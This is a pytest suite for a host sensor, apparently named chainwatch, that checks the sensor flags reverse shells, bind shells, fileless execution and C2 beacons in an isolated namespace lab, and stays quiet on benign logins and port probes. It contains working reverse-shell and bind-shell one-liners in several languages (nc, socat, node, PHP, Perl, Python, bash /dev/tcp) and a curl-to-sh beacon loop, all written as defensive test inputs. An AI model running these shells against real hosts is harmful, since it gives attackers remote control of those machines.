"""The stdio graph, live in the netns lab (issue 11): relay shells, interpreter command loops, bind shells and
beacons each give one incident with the right destination; logins, terminals, pipes and port probes give no
reverse-shell or C2 alert. Traffic stays between the lab's victim and attacker namespaces, every command is
bounded by a timeout, and each benign test first proves the sensor saw its exec and its connect."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import time

import pytest

from agent.events import Connect
from tests.helpers.alerts import incidents, mine, tagged
from tests.helpers.live import require_tools, skip_or_fail
from tests.helpers.polling import wait_until
from tests.helpers.proof import assert_sensor_saw
from tests.live.corpus import record_case

PAYLOAD = b"echo cw-$((6*7))\nexit\n"
C2 = {
    "reverse_shell",
    "bind_shell",
    "stdio_to_socket",
    "c2_beacon",
    "interpreter_reverse_shell",
    "tunnel_tool",
    "irc_connection",
}


def c2_alerts(alerts: list[dict]) -> list[dict]:
    return [a for a in alerts if C2 & set(a["chainwatch"]["signals"])]


CONTEXTS = ["plain", "ci"]
# A stand-in GitHub Actions runner: the context root by its executable's name; it runs the step as a child.
RUNNER = '#!/bin/bash\nbash -c "$1"\n'


def in_context(command: str, context: str) -> str:
    """``command`` as it runs: plain, or as a step of a (stand-in) GitHub Actions runner."""
    if context == "plain":
        return command
    runner = os.path.join(tempfile.mkdtemp(prefix="cw-runner-"), "Runner.Worker")
    with open(runner, "w") as fh:
        fh.write(RUNNER)
    os.chmod(runner, 0o755)
    return f"{runner} {shlex.quote(command)}"


def check_context(alert: dict, context: str) -> None:
    want = None if context == "plain" else "cicd_runner_github_actions"
    assert alert["supply_chain"]["context"] == want, alert["supply_chain"]
    if want:
        assert alert["event"]["severity"] >= 73


def case_name() -> str:
    """This test's name, as a corpus file name."""
    name = os.environ.get("PYTEST_CURRENT_TEST", "case").split("::")[-1].split(" ")[0]
    return "".join(c if c.isalnum() or c in "-_" else "_" for c in name).strip("_")


def reverse(
    sensorlab,
    netlab,
    command: str,
    *,
    family: int = 4,
    signal: str = "reverse_shell",
    payload: bytes = PAYLOAD,
    expect: bytes = b"cw-42",
    timeout: float = 15,
    context: str = "plain",
    replay_signal: str | None = None,
) -> dict:
    """Run ``command`` ({host}, {port}) in the victim against a listener; one incident, right destination."""
    port = netlab.port()
    host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
    listener = netlab.listen_tcp(netlab.attacker_ns, port, family=family, payload=payload, duration=timeout)
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    command, token = tagged(command.format(host=host, port=port))
    netlab.spawn(
        netlab.victim_ns,
        ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    received = listener.wait(timeout=timeout + 5)
    assert expect in received, received
    alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
    record_case(sensorlab, case_name(), emark, token, {"signal": replay_signal or signal, "port": port})
    groups = incidents(c2_alerts(alerts))
    assert len(groups) == 1, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
    lines = next(iter(groups.values()))
    hit = [a for a in lines if signal in a["chainwatch"]["signals"]]
    assert hit, [(a["rule"]["name"], a["event"]["reason"]) for a in lines]
    assert hit[-1]["destination"] == {"ip": host, "port": port}, hit[-1]["event"]["reason"]
    assert hit[-1]["event"]["severity"] >= 73
    return hit[-1]


FIFO_RELAY = "rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | nc {{host}} {{port}} > {f}; rm -f {f}"


def _fifo(tmp_path) -> str:
    return str(tmp_path / "f")


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_mkfifo_sh_openbsd_nc(sensorlab, netlab, tmp_path, ctx) -> None:
    """`mkfifo; cat f | sh -i | nc H P > f` with OpenBSD nc: one reverse-shell incident naming nc's peer."""
    require_tools("nc.openbsd")
    reverse(sensorlab, netlab, FIFO_RELAY.format(f=_fifo(tmp_path)).replace("nc ", "nc.openbsd -q 1 ", 1), context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_mknod_fifo_relay_ipv6(sensorlab, netlab, tmp_path, ctx) -> None:
    """The same relay made with `mknod p`, over IPv6."""
    require_tools("nc.openbsd")
    f = _fifo(tmp_path)
    reverse(
        sensorlab,
        netlab,
        f"rm -f {f}; mknod {f} p; cat {f} | /bin/sh -i 2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}",
        family=6,
        context=ctx,
    )


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_busybox_nc_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
    """busybox nc with a FIFO."""
    require_tools("busybox")
    f = _fifo(tmp_path)
    reverse(
        sensorlab,
        netlab,
        f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc {{host}} {{port}} > {f}",
        context=ctx,
    )


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_socat_pty_exec(sensorlab, netlab, ctx) -> None:
    """socat exec:'bash -li',pty,stderr,setsid: bash on a pty whose master socat holds."""
    require_tools("socat")
    reverse(sensorlab, netlab, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{host}:{port}", context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path, ctx) -> None:
    """`sh -i < f 2>&1 | nc H P > f`: the FIFO on the shell's own stdin, written by nc."""
    require_tools("nc.openbsd")
    f = _fifo(tmp_path)
    reverse(
        sensorlab,
        netlab,
        f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}",
        context=ctx,
    )


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_openssl_s_client_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
    """`sh -i < f 2>&1 | openssl s_client -quiet -connect H:P > f` against a TLS attacker (openssl s_server)."""
    require_tools("openssl")
    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-subj",
            "/CN=lab",
            "-days",
            "1",
            "-keyout",
            str(key),
            "-out",
            str(cert),
        ],
        check=True,
        capture_output=True,
        timeout=30,
    )
    port = netlab.port()
    host = netlab.attacker_ip4
    server = netlab.spawn(
        netlab.attacker_ns,
        [
            "timeout",
            "20",
            "openssl",
            "s_server",
            "-quiet",
            "-key",
            str(key),
            "-cert",
            str(cert),
            "-accept",
            f"{host}:{port}",
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(1.0)
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    f = _fifo(tmp_path)
    command, token = tagged(
        f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | openssl s_client -quiet -connect "
        f"{host}:{port} > {f} 2>/dev/null"
    )
    netlab.spawn(
        netlab.victim_ns,
        ["timeout", "12", "bash", "-c", in_context(command, ctx)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    assert server.stdin is not None and server.stdout is not None
    server.stdin.write(b"echo cw-$((6*7))\nsleep 1\nexit\n")
    server.stdin.flush()
    got = bytearray()
    os.set_blocking(server.stdout.fileno(), False)

    def answered() -> bool:
        got.extend(server.stdout.read() or b"")
        return b"cw-42" in got

    wait_until(answered, timeout=15, interval=0.2)
    assert b"cw-42" in got, got
    groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
    assert len(groups) == 1
    hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
    assert hit and hit[-1]["destination"] == {"ip": host, "port": port}
    check_context(hit[-1], ctx)
    record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})


# A one-shot attacker: accept one connection, type the payload, hang up after a second (a telnet client whose
# stdout is a pipe shows what it received when the peer hangs up).
ONE_SHOT = (
    "import socket,sys,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
    "s.bind((sys.argv[1],int(sys.argv[2])));s.listen(1);s.settimeout(15)\nc,_=s.accept()\n"
    "c.sendall(bytes.fromhex(sys.argv[3]));time.sleep(1.5);c.close()"
)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_telnet_pair(sensorlab, netlab, ctx) -> None:
    """`telnet H P1 | sh | telnet H P2`: commands from one connection, output to the other."""
    require_tools("telnet")
    out_port = netlab.port()
    sink = netlab.listen_tcp(netlab.attacker_ns, out_port, duration=15)
    port = netlab.port()
    host = netlab.attacker_ip4
    # `sleep` keeps sh (and so the second telnet's stdin) open long enough for it to send the answer: netkit
    # telnet quits at EOF on its stdin without flushing what it has not sent yet.
    typed = b"echo cw-$((6*7))\nsleep 2\nexit\n"
    netlab.spawn(netlab.attacker_ns, [sys.executable, "-c", ONE_SHOT, host, str(port), typed.hex()])
    time.sleep(0.8)
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    command, token = tagged(
        f"sleep 8 | telnet {host} {port} 2>/dev/null | /bin/sh 2>&1 | telnet {host} {out_port} >/dev/null 2>&1"
    )
    netlab.spawn(
        netlab.victim_ns,
        ["timeout", "12", "bash", "-c", in_context(command, ctx)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    assert b"cw-42" in sink.wait(timeout=20)
    groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
    assert len(groups) == 1
    hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
    assert hit and hit[-1]["destination"] == {"ip": host, "port": port}  # where the commands come from
    check_context(hit[-1], ctx)
    record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})


NODE = (
    'node -e \'(function(){{var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);'
    'var c=new net.Socket();c.connect({port},"{host}",function(){{c.pipe(sh.stdin);sh.stdout.pipe(c);'
    'sh.stderr.pipe(c);}});sh.on("exit",function(){{c.end();}});}})();\''
)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_node_net_child_process(sensorlab, netlab, ctx) -> None:
    """node net.Socket piped into child_process.spawn('/bin/sh') (socketpairs between them)."""
    require_tools("node")
    reverse(sensorlab, netlab, NODE, context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_php_shell_exec_loop(sensorlab, netlab, ctx) -> None:
    """A PHP loop reading commands from a socket and answering with shell_exec: one alert for the loop."""
    require_tools("php")
    code = (
        '$s=fsockopen("{host}",{port});while(($c=fgets($s))!==false){{if(trim($c)=="exit")break;'
        "fwrite($s,shell_exec($c));}}"
    )
    alert = reverse(sensorlab, netlab, f"php -r '{code}'", context=ctx)
    assert alert["process"]["name"].startswith("php")


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_tclsh_socket_loop(sensorlab, netlab, ctx) -> None:
    """A tclsh socket loop that execs each command it reads (fed its script on stdin)."""
    require_tools("tclsh")
    script = (
        'set s [socket {host} {port}];while {{[gets $s c] >= 0}} {{if {{$c eq "exit"}} break;'
        "catch {{exec sh -c $c}} r;puts $s $r;flush $s}};close $s"
    )
    reverse(sensorlab, netlab, f"echo '{script}' | tclsh", context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_python_pty_relay_through_nc(sensorlab, netlab, tmp_path, ctx) -> None:
    """python pty.spawn behind a FIFO relay to nc: sh on a pty whose master python holds."""
    require_tools("nc.openbsd")
    f = _fifo(tmp_path)
    reverse(
        sensorlab,
        netlab,
        f"rm -f {f}; mkfifo {f}; cat {f} | python3 -c 'import pty; pty.spawn(\"/bin/sh\")' "
        f"2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}",
        context=ctx,
    )


def test_relay_inside_npm_context(sensorlab, netlab, tmp_path) -> None:
    """The mkfifo relay started under an npm install root is one incident in its context, at least high."""
    require_tools("nc.openbsd", "npm")
    f = _fifo(tmp_path)
    # A process whose exec the context rules recognise as `npm install`: a shell script named npm.
    npm = tmp_path / "npm"
    npm.write_text('#!/bin/bash\nshift\nbash -c "$1"\n')  # the step runs as npm's child, as hooks do
    npm.chmod(0o755)
    relay = FIFO_RELAY.format(f=f).replace("nc ", "nc.openbsd -q 1 ", 1)
    alert = reverse(sensorlab, netlab, f'{npm} install "{relay}"')
    assert alert["supply_chain"]["context"] == "package_install_npm"


# ------------------------------------------------------------------ bind shells

# The attacker types and waits for the answer without half-closing (ncat -e hangs up on EOF).
ATTACKER_CLIENT = """
import socket, sys, time
try:
    c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
except OSError:
    sys.exit(1)
c.sendall(bytes.fromhex(sys.argv[3]))
got, end = b"", time.time() + 4
while b"cw-42" not in got and time.time() < end:
    try:
        d = c.recv(4096)
    except OSError:
        break
    if not d:
        break
    got += d
sys.stdout.buffer.write(got)
"""


def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 15, context: str = "plain") -> dict:
    """Start a bind shell ({port}) in the victim; the attacker connects and runs the payload."""
    port = netlab.port()
    victim = netlab.victim_ip6 if family == 6 else netlab.victim_ip4
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    command, token = tagged(command.format(port=port))
    netlab.spawn(
        netlab.victim_ns,
        ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )

    def attacker_session() -> bytes:
        res = netlab.run(
            netlab.attacker_ns, [sys.executable, "-c", ATTACKER_CLIENT, victim, str(port), PAYLOAD.hex()], timeout=10
        )
        return res.stdout if b"cw-42" in (res.stdout or b"") else b""

    got = wait_until(attacker_session, timeout=timeout, interval=0.3)
    assert b"cw-42" in got
    alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
    record_case(sensorlab, case_name(), emark, token, {"signal": "bind_shell", "port": port})
    groups = incidents(c2_alerts(alerts))
    assert len(groups) == 1, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
    hit = [a for a in next(iter(groups.values())) if "bind_shell" in a["chainwatch"]["signals"]]
    assert hit, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
    last = hit[-1]
    assert last["destination"]["port"] == port
    assert last["destination"]["ip"] in (victim, "0.0.0.0", "::")
    attacker = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
    assert last["source"]["ip"] == attacker
    assert last["network"]["direction"] == "ingress"
    return last


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_bind_nc_traditional(sensorlab, netlab, ctx) -> None:
    """nc.traditional -l -p P -e /bin/sh."""
    require_tools("nc.traditional")
    bind(sensorlab, netlab, "nc.traditional -l -p {port} -e /bin/sh", context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_bind_socat(sensorlab, netlab, ctx) -> None:
    """socat TCP-LISTEN EXEC:/bin/sh (a socketpair between socat and sh)."""
    require_tools("socat")
    bind(sensorlab, netlab, "socat TCP-LISTEN:{port},reuseaddr EXEC:/bin/sh", context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_bind_python_pty(sensorlab, netlab, ctx) -> None:
    """python accept + dup2 + pty.spawn."""
    code = (
        "import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
        's.bind(("0.0.0.0",{port}));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];'
        'pty.spawn("/bin/sh")'
    )
    bind(sensorlab, netlab, f"python3 -c '{code}'", context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_bind_perl(sensorlab, netlab, ctx) -> None:
    """perl accept + open STDIN/STDOUT on the socket + exec sh."""
    code = (
        'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);'
        'bind(S,sockaddr_in({port},INADDR_ANY));listen(S,1);accept(C,S);open(STDIN,"<&C");open(STDOUT,">&C");'
        'open(STDERR,">&C");exec("/bin/sh -i");'
    )
    bind(sensorlab, netlab, f"perl -e '{code}'", context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_bind_busybox_nc(sensorlab, netlab, ctx) -> None:
    """busybox nc -l -p P -e /bin/sh."""
    require_tools("busybox")
    bind(sensorlab, netlab, "busybox nc -l -p {port} -e /bin/sh", context=ctx)


@pytest.mark.parametrize("ctx", CONTEXTS)
def test_bind_ncat_ipv6(sensorlab, netlab, ctx) -> None:
    """ncat -6 -l -e /bin/sh over IPv6."""
    require_tools("ncat")
    bind(sensorlab, netlab, "ncat -6 -l -p {port} -e /bin/sh", family=6, context=ctx)


# ------------------------------------------------------------------ beacon


def test_curl_polling_beacon(sensorlab, netlab) -> None:
    """`while :; do curl -s http://H:P/c | sh; sleep 1; done` gives one C2 beacon alert with the destination."""
    require_tools("curl")
    port = netlab.port()
    www = netlab.spawn(
        netlab.attacker_ns,
        [
            sys.executable,
            "-c",
            (
                "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n"
                "  b=b'echo cw-beacon\\n';s.send_response(200);"
                "s.send_header('Content-Length',str(len(b)));s.end_headers();"
                "s.wfile.write(b)\n def log_message(s,*a): pass\n"
                f"h.HTTPServer(('{netlab.attacker_ip4}',{port}),H).serve_forever()"
            ),
        ],
    )
    time.sleep(0.8)
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    command, token = tagged(
        f"for i in 1 2 3; do curl -s -m 3 http://{netlab.attacker_ip4}:{port}/c | sh; sleep 1; done"
    )
    netlab.run(netlab.victim_ns, ["timeout", "8", "bash", "-c", command], timeout=15)
    www.kill()
    alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
    record_case(sensorlab, case_name(), emark, token, {"signal": "c2_beacon", "port": port})
    beacons = [a for a in alerts if "c2_beacon" in a["chainwatch"]["signals"]]
    assert len({a["chainwatch"]["incident"]["id"] for a in beacons}) == 1, alerts
    assert beacons[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
    assert beacons[-1]["event"]["severity"] >= 73


# ------------------------------------------------------------------ benign


def benign(
    sensorlab,
    netlab,
    command: str,
    *,
    exe: str,
    port: int | None = None,
    server: list[str] | None = None,
    ns: str | None = None,
    timeout: float = 15,
    context: str = "plain",
) -> list[dict]:
    """Run ``command`` in the victim; prove the sensor saw ``exe`` exec and connect to the lab; return alerts."""
    port = port or netlab.port()
    if server is not None:
        netlab.spawn(netlab.attacker_ns, [a.format(port=port, host=netlab.attacker_ip4) for a in server])
        time.sleep(0.8)
    else:
        netlab.listen_tcp(netlab.attacker_ns, port, payload=b"220 lab ready\r\n", duration=timeout, max_conns=5)
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    command, token = tagged(command.format(host=netlab.attacker_ip4, port=port))
    netlab.run(
        ns or netlab.victim_ns,
        ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
        timeout=timeout + 5,
    )
    assert_sensor_saw(sensorlab, mark, exe=exe, port=port)
    alerts = mine(sensorlab.alerts_since(amark, settle=1.0), token)
    record_case(sensorlab, case_name(), mark, token, {"quiet": True})
    return alerts


def quiet(alerts: list[dict]) -> None:
    bad = [
        (a["rule"]["name"], a["event"]["reason"])
        for a in alerts
        if C2 & set(a["chainwatch"]["signals"]) or a["event"]["severity"] > 21
    ]
    assert bad == []
    for a in alerts:  # notices never call themselves what they are not
        text = (a["rule"]["name"] + " " + a["event"]["reason"]).lower()
        assert "reverse shell" not in text and "c2" not in text and "bind shell" not in text


def test_benign_busybox_wget(sensorlab, netlab) -> None:
    """`busybox wget` is wget, not a shell (Debian's busybox 1.35 wget crashes with -T: timeout bounds it)."""
    require_tools("busybox")
    quiet(
        benign(
            sensorlab,
            netlab,
            "timeout 5 busybox wget -q -O /dev/null http://{host}:{port}/; true",
            exe="busybox",
            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
        )
    )


def test_benign_openssl_certificate_check_pipe(sensorlab, netlab) -> None:
    """`openssl s_client -connect H:P </dev/null | openssl x509 -noout -enddate`: a pipe is not a relay."""
    quiet(
        benign(
            sensorlab,
            netlab,
            "openssl s_client -connect {host}:{port} </dev/null 2>/dev/null | "
            "openssl x509 -noout -enddate 2>/dev/null; true",
            exe="openssl",
        )
    )


def test_benign_telnet_banner(sensorlab, netlab, tmp_path) -> None:
    """`(echo QUIT) | telnet H 25 > banner.txt`."""
    require_tools("telnet")
    quiet(
        benign(
            sensorlab,
            netlab,
            f"(echo QUIT; sleep 1) | telnet {{host}} {{port}} > {tmp_path}/banner.txt 2>&1; true",
            exe="telnet",
        )
    )


@pytest.mark.parametrize(
    "probe",
    [
        "timeout 1 bash -c 'echo > /dev/tcp/{host}/{port}'",
        "(exec 3<>/dev/tcp/{host}/{port})",
        "for i in 1 2 3; do (echo > /dev/tcp/{host}/{port}) 2>/dev/null && break; sleep 0.2; done",
    ],
)
@pytest.mark.parametrize("ctx", CONTEXTS)
def test_benign_port_probes(sensorlab, netlab, probe, ctx) -> None:
    """Wait-for-service probes, plain and as a CI step: at most a notice that does not call itself a reverse
    shell."""
    quiet(benign(sensorlab, netlab, probe, exe="bash", context=ctx))


def test_benign_curl_pipe_sh_outside_context(sensorlab, netlab) -> None:
    """`curl … | sh` once, outside any context: at most a download notice."""
    quiet(
        benign(
            sensorlab,
            netlab,
            "curl -s -m 3 http://{host}:{port}/ | sh >/dev/null 2>&1; true",
            exe="curl",
            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
        )
    )


def test_benign_local_mkfifo_pipeline(sensorlab, netlab, tmp_path) -> None:
    """A local mkfifo pipeline feeding a shell, with an unrelated curl in the same script: nothing."""
    f = tmp_path / "p"
    quiet(
        benign(
            sensorlab,
            netlab,
            f"mkfifo {f}; (echo 'echo hi' > {f} &); sh < {f} > /dev/null; "
            "curl -s -m 3 -o /dev/null http://{host}:{port}/; rm -f " + str(f),
            exe="curl",
            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
        )
    )


def test_benign_script_and_tmux(sensorlab, netlab) -> None:
    """`script -qc` and a tmux session running a command that connects out: nothing."""
    require_tools("script", "tmux")
    sock = f"/tmp/cw-tmux-{os.getpid()}"
    quiet(
        benign(
            sensorlab,
            netlab,
            "script -qc 'curl -s -m 3 -o /dev/null http://{host}:{port}/' /dev/null; "
            f"tmux -S {sock} new-session -d 'curl -s -m 3 -o /dev/null http://{{host}}:{{port}}/'; sleep 2; "
            f"tmux -S {sock} kill-server 2>/dev/null; rm -f {sock}; true",
            exe="curl",
            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
        )
    )


SSHD_CONFIG = """Port {port}
ListenAddress {addr}
HostKey {dir}/host_ed25519
PidFile {dir}/sshd.pid
AuthorizedKeysFile {dir}/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
PermitRootLogin prohibit-password
"""


def test_benign_inbound_ssh_login_with_pty_and_outbound_ssh_tt(sensorlab, netlab, tmp_path) -> None:
    """A real sshd the test starts in the victim namespace with its own config; the attacker namespace logs in
    with a pty (`ssh -tt`): sshd re-executes with the connection on stdio and gives the shell a pty. Nothing."""
    require_tools("ssh", "ssh-keygen")
    sshd = "/usr/sbin/sshd"
    if not os.path.exists(sshd):
        skip_or_fail("openssh-server is not installed (make setup installs it)")
    port = netlab.port()
    d = tmp_path
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "host_ed25519")], check=True, timeout=30
    )
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "client")], check=True, timeout=30)
    (d / "authorized_keys").write_text((d / "client.pub").read_text())
    (d / "sshd_config").write_text(SSHD_CONFIG.format(port=port, addr=netlab.victim_ip4, dir=d))
    os.makedirs("/run/sshd", exist_ok=True)
    netlab.spawn(
        netlab.victim_ns,
        [sshd, "-D", "-e", "-f", str(d / "sshd_config")],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(1.0)
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    res = netlab.run(
        netlab.attacker_ns,
        [
            "timeout",
            "20",
            "ssh",
            "-tt",
            "-i",
            str(d / "client"),
            "-p",
            str(port),
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "BatchMode=yes",
            f"root@{netlab.victim_ip4}",
            "echo cw-$((6*7)); exit",
        ],
        timeout=30,
    )
    assert b"cw-42" in (res.stdout or b""), res
    assert_sensor_saw(sensorlab, mark, exe="sshd", port=port)
    quiet(sensorlab.alerts_since(amark, settle=1.5))


# ------------------------------------------------------------------ executables by what they are


def test_renamed_copy_of_bash_is_bash(sensorlab, netlab, tmp_path) -> None:
    """A copy of bash under another name, used for the /dev/tcp reverse shell, is recognised by its content."""
    fake = tmp_path / "kworker"
    shutil.copy("/usr/bin/bash", fake)
    alert = reverse(
        sensorlab, netlab, f"{fake} -c '{fake} -i >& /dev/tcp/{{host}}/{{port}} 0>&1'", signal="stdio_to_socket"
    )
    assert alert["process"]["executable"] == str(fake)


MEMFD_SOCAT = (
    "import os,sys;fd=os.memfd_create('svc');os.write(fd,open('/usr/bin/socat','rb').read());"
    "os.execve(f'/proc/self/fd/{{fd}}',['svc','TCP:{host}:{port}','EXEC:/bin/sh'],dict(os.environ))"
)


def test_memfd_socat_is_socat_and_fileless(sensorlab, netlab) -> None:
    """socat run from a memfd under another name: a tunnel tool by its content, and a fileless exec."""
    require_tools("socat")
    # The content is read from /proc/PID/exe while the process runs: the attacker's session lasts a moment.
    # Replay has no /proc to read the content from: there the relay through socat's socketpair is the verdict.
    alert = reverse(
        sensorlab,
        netlab,
        f'python3 -c "{MEMFD_SOCAT}"',
        signal="tunnel_tool",
        payload=b"echo cw-$((6*7))\nsleep 2\nexit\n",
        replay_signal="reverse_shell",
    )
    assert "fileless_exec" in alert["chainwatch"]["signals"], alert["chainwatch"]["signals"]


# ------------------------------------------------------------------ peers as the kernel holds them

UDP_SHELL = (
    "import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);"
    "a=('{host}',{port});s.sendto(b'hi',a);c,_=s.recvfrom(4096);"
    "s.sendto(subprocess.run(c.decode(),shell=True,capture_output=True).stdout,a)"
)


def test_udp_shell_with_sendto_only(sensorlab, netlab) -> None:
    """A UDP shell that never connects (sendto/recvfrom) alerts with its destination."""
    port = netlab.port()
    host = netlab.attacker_ip4
    listener = netlab.listen_udp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))", duration=12, max_datagrams=2)
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    command, token = tagged(f'python3 -c "{UDP_SHELL.format(host=host, port=port)}"')
    netlab.run(netlab.victim_ns, ["timeout", "10", "bash", "-c", command], timeout=15)
    assert b"cw-42" in listener.wait(timeout=15)
    sends = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=emark, timeout=10)
    assert len(sends) == 1 and sends[0].transport == "udp" and sends[0].daddr == host  # once per destination
    groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
    assert len(groups) == 1
    hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
    assert hit and hit[-1]["destination"] == {"ip": host, "port": port}
    assert hit[-1]["network"]["transport"] == "udp"
    record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})


RACE = """
import ctypes, socket, struct, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
real, decoy, port, decoy_port = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
def sin(ip, p):
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)
buf = ctypes.create_string_buffer(sin(real, port), 16)
stop = False
def flip():
    a, b = sin(decoy, decoy_port), sin(real, port)
    while not stop:
        ctypes.memmove(buf, a, 16)
        ctypes.memmove(buf, b, 16)
t = threading.Thread(target=flip); t.start()
peers = []
for _ in range(40):
    s = socket.socket()  # blocking: a timeout would make the fd non-blocking and connect return EINPROGRESS
    if libc.connect(s.fileno(), buf, 16) == 0:
        peers.append("%s:%d" % s.getpeername())
    s.close()
stop = True; t.join()
print(" ".join(peers))
"""


def test_racing_sockaddr_rewrite_does_not_change_the_destination(sensorlab, netlab) -> None:
    """A thread rewriting the sockaddr while connect runs: every reported destination is the socket's real peer."""
    host = netlab.attacker_ip4
    port, decoy_port = netlab.port(), netlab.port()
    netlab.listen_tcp(netlab.attacker_ns, port, duration=20, max_conns=40)
    netlab.listen_tcp(netlab.attacker_ns, decoy_port, duration=20, max_conns=40)
    mark = sensorlab.mark()
    res = netlab.run(
        netlab.victim_ns,
        ["timeout", "15", sys.executable, "-c", RACE, host, host, str(port), str(decoy_port)],
        timeout=20,
    )
    peers = (res.stdout or b"").decode().split()
    assert peers, res
    want = {port: peers.count(f"{host}:{port}"), decoy_port: peers.count(f"{host}:{decoy_port}")}
    seen = sensorlab.wait_for(
        lambda e: isinstance(e, Connect) and e.dport in want and e.result == 0, since=mark, count=len(peers), timeout=10
    )
    got = {p: sum(1 for e in seen if e.dport == p) for p in want}
    assert got == want  # the kernel's peer for every connect, never the buffer's other value
